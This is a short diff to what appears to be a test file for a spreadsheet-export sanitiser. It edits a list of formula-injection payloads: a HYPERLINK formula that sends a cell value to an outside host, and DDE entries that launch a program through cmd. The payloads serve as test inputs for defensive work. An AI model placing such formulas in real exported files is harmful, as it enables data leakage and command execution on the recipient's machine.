@@ -17,7 +17,7 @@ from missing.spreadsheet import csv_writer, neutralise
 ROOT = Path(__file__).resolve().parent.parent.parent
 
 PAYLOADS = [
-    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
+    '=HYPERLINK("http://x.io/?"&A1,"go")',  # short: council ids are 40 characters
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
